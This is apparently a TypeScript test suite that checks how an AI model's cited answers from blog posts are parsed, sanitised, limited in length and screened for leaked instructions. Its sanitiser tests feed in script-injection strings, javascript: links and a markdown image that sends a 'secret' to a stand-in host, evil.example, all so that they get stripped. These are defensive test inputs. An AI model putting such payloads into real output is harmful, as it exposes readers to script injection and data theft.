/** What becomes of an answer that a model wrote: it is read, put in order, and judged. */
import { afterEach, describe, expect, it } from 'vitest';
import { judge } from '../services/text/judge.js';
import { wireSchema } from '../services/text/json-schema.js';
import type { FoundPost } from '../services/archive/post-search/post-search.js';
import { OpenAiText } from '../services/text/openai.js';
import { OFFERED, SLOPPY_ANSWERS, UNREADABLE } from '../test/sloppy/answers.js';
import { startSloppy, type Sloppy } from '../test/sloppy/server.js';
import { tidyAnswer, toAnswer, unusable } from './answer-rules.js';
import { ANSWER_CHARACTERS, answerSchema, type WrittenAnswer } from './answer-schema.js';
import { answerProblem, readAnswer } from './read-answer.js';

const [A, B, C] = ['AAAAAAAAAAAA', 'BBBBBBBBBBBB', 'CCCCCCCCCCCC'] as const;
const post = (postId: string): FoundPost => ({
  ...{ postId, title: `Title of ${postId}`, body: 'A body.', caption: 'A caption.', hashtags: [] },
  ...{ altText: '', url: `https://desk.example/${postId}`, at: '2026-11-24T09:00:00.000Z' },
});
const offered = [post(A), post(B)];
const written = (change: Partial<WrittenAnswer>): WrittenAnswer => ({
  ...{ answered: true, answer: 'Rye holds more water.', citations: [A], ...change },
});
const problem = (change: Partial<WrittenAnswer>, secrets: readonly string[] = []): string | null =>
  unusable(written(change), offered, secrets);

describe('citations', () => {
  it.each([
    ['each once, in the order of the answer', [B, ` ${A} `, B], [B, A]],
    ['those alone that were offered', [C, A], [A]],
  ])('are %s', (_what, citations, cited) => {
    expect(problem({ citations })).toBeNull();
    expect(toAnswer(written({ citations }), offered)?.cited.map(({ postId }) => postId)).toEqual(cited);
  });

  it.each([[[]], [[C]]])('that are none of them make an answer useless: %j', (citations) => {
    expect(problem({ citations })).toMatch(/^it cites none of the posts that it was offered/);
  });
});

describe('an answer that says there is none', () => {
  it.each<[Partial<WrittenAnswer>]>([
    [{ answered: false }],
    [{ answered: false, citations: [] }],
    [{ answer: "I haven't written about that.", citations: [] }],
    [{ answer: 'Sorry, I have not posted about regattas.', citations: [A] }],
    [{ answer: 'I’m afraid my posts do not say.', citations: [] }],
  ])('is a decline, whatever it cites: %j', (change) => {
    expect(problem(change)).toBeNull();
    expect(toAnswer(written(change), offered)).toBeNull();
  });

  it.each([
    "I haven't written about wheat, but rye holds more water.",
    'Bakers say that I have not written about rye. I have.',
    'My posts on rye say that it holds more water.',
  ])('is not seen in one that goes on to answer: %s', (answer) => {
    expect(toAnswer(written({ answer }), offered)).not.toBeNull();
  });
});

describe('the text of an answer', () => {
  it.each([
    ['Rye <b>holds</b> more water.', 'Rye holds more water.'],
    ['Rye<script>alert(1)</script> holds.', 'Rye holds.'],
    ['Rye <script>alert(1)', 'Rye'],
    ['Rye <!-- hidden --> holds.', 'Rye holds.'],
    ['See [my post](https://evil.example/x) on rye.', 'See my post on rye.'],
    ['![x](https://evil.example/?q=secret) Rye.', 'x Rye.'],
    ['Rye: https://evil.example/a?b=c .', 'Rye:.'],
    ['Rye at www.evil.example now.', 'Rye at now.'],
    ['Run javascript:alert(1) now.', 'Run now.'],
    ['Ry\u0000e\u202e \u200bholds\u0007.', 'Rye holds.'],
    ['One.\r\n\r\n\r\n\r\nTwo.\tThree.', 'One.\n\nTwo. Three.'],
    ['5 < 6 and 7 > 2', '5 < 6 and 7 > 2'],
    ['<https://evil.example>', ''],
  ])('%j is shown as %j', (answer, shown) => {
    expect(tidyAnswer(answer)).toBe(shown);
  });

  it.each([
    ['a sentence', 'Rye holds water. '.repeat(200), /water\.$/],
    ['a word', 'rye '.repeat(1_000), /rye…$/],
  ])('is cut after %s where it is too long', (_what, long, end) => {
    expect(tidyAnswer(long).length).toBeLessThanOrEqual(ANSWER_CHARACTERS);
    expect(tidyAnswer(long)).toMatch(end);
  });

  it('that is nothing but links and marks is of no use', () => {
    expect(problem({ answer: 'https://evil.example' })).toBe('the answer is empty');
  });

  it.each(['<a ', '<!--', '[(', '<script'])('takes no time over marks that never end: %s', (mark) => {
    expect(tidyAnswer(mark.repeat(50_000)).length).toBeLessThanOrEqual(ANSWER_CHARACTERS);
  });
});

describe('what was said to the model alone', () => {
  const SAID = 'never say more than a baker would say over the counter';
  const secrets = [`Write drily. ${SAID.replace('never', 'Never')} on a Saturday.`];
  it.each([
    ['does not come back', `Rule: ${SAID}!`, 'it repeats its instructions'],
    ['is not seen in a few common words', 'A baker would say over the counter: rye keeps.', null],
  ])('%s in an answer', (_what, answer, why) => {
    expect(problem({ answer }, secrets)).toBe(why);
  });
});

describe('an answer of a writer that was not held to the schema:', () => {
  it.each(SLOPPY_ANSWERS)('$what', ({ text, answered, answer, citations, again }) => {
    const judgement = judge(answerSchema, text);
    if (judgement.outcome !== 'ok') throw new Error(judgement.detail);
    const read = readAnswer(judgement.value, OFFERED);
    expect(read.answered).toBe(answered);
    if (typeof answer === 'string') expect(read.answer).toBe(answer);
    else expect(read.answer).toMatch(answer);
    expect(read.citations.map(({ postId }) => postId)).toEqual(citations);
    if (again) expect(answerProblem(read)).toMatch(again);
    else expect(answerProblem(read)).toBeNull();
  });

  it.each(UNREADABLE)('%j is malformed', (text, why) => {
    const detail = expect.stringMatching(why) as string;
    expect(judge(answerSchema, text)).toMatchObject({ outcome: 'malformed', detail });
  });

  it('takes time in proportion to what is written', () => {
    for (const mark of ['[1] ', '(post ', '**', '<post ', '](', '【', ' \n', '#', '_', '`a', ' [', '* ']) {
      const long = mark.repeat(100_000);
      const read = () => readAnswer({ answered: true, answer: long, citations: [long] }, OFFERED);
      expect(read).not.toThrow();
    }
  });

  it.each([
    'In 2024 (2) and [a note] stay, as do 3 * 4 * 5 and snake_case_names.',
    'First.\n\n- One\n- Two',
    '“Kubernetes” (Kubernetes12 is no id of a post) costs < $5 and > $2.',
    '5 > 3\nand so on',
  ])('plain text stays as it is: %j', (answer) => {
    expect(readAnswer({ answered: false, answer, citations: [] }, OFFERED).answer).toBe(answer);
  });
});

it('goes over the wire as three plain fields', () => {
  const description = 'The ids of the posts that the answer rests on';
  expect(wireSchema(answerSchema, 'counts')).toEqual({
    type: 'object',
    properties: {
      answered: { type: 'boolean', description: 'false where the posts do not say it' },
      answer: { type: 'string', description: 'The answer, at most 600 characters of plain text' },
      citations: { type: 'array', items: { type: 'string' }, maxItems: 6, description },
    },
    required: ['answered', 'answer', 'citations'],
    additionalProperties: false,
  });
});

describe.each([
  ['responses', 'usual'],
  ['chat', 'usual'],
  ['chat', 'vendor'],
] as const)('over %s a writer that is %s', (api, variant) => {
  let server: Sloppy;
  afterEach(() => server.close());

  it('is read as it means it, question by question', async () => {
    server = await startSloppy({ seed: 16, variant });
    const text = new OpenAiText({ apiKey: 'none', baseUrl: server.url, api, offline: false });
    const posts = OFFERED.map(({ postId, title }) => `<post id="${postId}">\n${title}\n\nBread.\n</post>`);
    const question = { model: 'qwen3', name: 'answer', schema: answerSchema, maxOutputTokens: 800 };
    const instructions = 'Answer the reader from your posts.';
    const seen = new Set<boolean>();
    for (let number = 1; number <= 40; number += 1) {
      const key = `k${number}`;
      const input = `${posts.join('\n\n')}\n\nQuestion ${number}: why does bread rise?`;
      const answer = await text.ask({ ...question, key, instructions, input });
      if (answer.outcome !== 'ok') expect.fail(`${key}: ${answer.outcome} ${answer.detail}`);
      const read = readAnswer(answer.value, OFFERED);
      const call = server.calls.findLast((one) => one.key === key && one.status === 200);
      expect(answerProblem(read), key).toBeNull();
      const cited = read.citations.map(({ postId }) => postId);
      expect(cited, key).toEqual(call?.cites);
      expect(read.answer).not.toMatch(/\*\*|\[\d|\(post|^\s|\s$/);
      seen.add(read.answered);
    }
    expect(seen.size).toBe(2);
  });
});
